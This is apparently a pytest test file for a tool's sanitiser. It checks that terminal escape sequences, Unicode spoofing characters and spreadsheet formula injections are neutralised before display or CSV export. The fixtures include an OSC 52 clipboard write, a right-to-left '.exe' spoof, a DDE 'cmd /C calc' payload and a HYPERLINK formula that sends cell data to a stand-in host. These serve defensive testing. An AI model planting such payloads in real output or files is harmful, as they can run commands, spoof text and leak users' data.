"""Text of strangers acts neither on a terminal nor in a spreadsheet."""

import io
import json
from contextlib import redirect_stderr, redirect_stdout

import pytest
from hypothesis import given
from hypothesis import strategies as st
from rich.table import Table
from rich.text import Text

from ops_local import summary
from ops_local.cli import main
from ops_local.summary import Part
from ops_local.terminal import terminal
from ops_local.visible import acting, csv_cell, shown, visible

ACTS = {
    "a colour": "\x1b[31mred",
    "a title": "\x1b]0;mine\x07",
    "C1's CSI": "\x9b31mred",
    "a clipboard": "\x1b]52;c;Y3VybA==\x07",
    "an overwritten line": "sold\rkept",
    "a backspace": "sold\b\b\b\bkept",
    "right to left": "\u202egnp.exe",
    "an isolate": "\u2066\u2069",
    "without width": "a\u200bb",
    "a line of Unicode": "a\u2028b\x85c",
    "tags": "\U000e0041",
    "half a character": "\ud800",
    "NUL": "\0",
}


@pytest.mark.parametrize("text", ACTS.values(), ids=ACTS.keys())
def test_nothing_that_acts_reaches_a_terminal_by_any_road(text: str) -> None:
    screen = io.StringIO()
    with redirect_stdout(shown(screen)), redirect_stderr(shown(screen)):
        print(text)  # noqa: T201 - as a verb without care would
        summary.show(terminal(), [Part(text, [{text: text, "other": Text(text)}])])
        terminal(stderr=True).print(Text(text), markup=False)
        terminal().print(Table(title=text))
    assert not set(screen.getvalue()) & (set(text) - set("\n\t") - set(map(chr, range(32, 127))))
    assert "\\u" in screen.getvalue()


def test_ordinary_text_of_all_languages_stays_as_it_is() -> None:
    for text in (
        "Caf\u00e9 \u2013 \u20ac5",
        "\u65e5\u672c\t\n",
        "\u05e9\u05dc\u05d5\u05dd",
        "\U0001f680",
    ):
        assert visible(text) == text


def test_rich_keeps_its_own_colours() -> None:
    screen = io.StringIO()
    stream = shown(screen)
    assert acting(stream) is screen
    assert shown(stream) is stream


@given(st.text())
def test_json_shown_is_the_same_json(text: str) -> None:
    raw = json.dumps([text], ensure_ascii=False)
    assert json.loads(visible(raw), strict=False) == [text]
    assert visible(visible(raw)) == visible(raw)


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        '=HYPERLINK("http://w.example/?"&A1,"ok")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "\n=1",
        " \n+1",
        " =1",
        "\uff1d1+1",
    ],
)
def test_a_spreadsheet_computes_no_cell(text: str) -> None:
    assert csv_cell(text).startswith("'")


@pytest.mark.parametrize("text", ["", "-1.50", "+3", "1e-7", "-.5", "AAPL", "a=b", "2026-02-04"])
def test_numbers_and_words_stay_what_they_are_in_a_spreadsheet(text: str) -> None:
    assert csv_cell(text) == text


def test_a_word_that_is_no_verb_is_repeated_without_acting(
    capsys: pytest.CaptureFixture[str],
) -> None:
    with pytest.raises(SystemExit):
        main(["\x1b[31mred"])
    assert "\x1b" not in capsys.readouterr().err
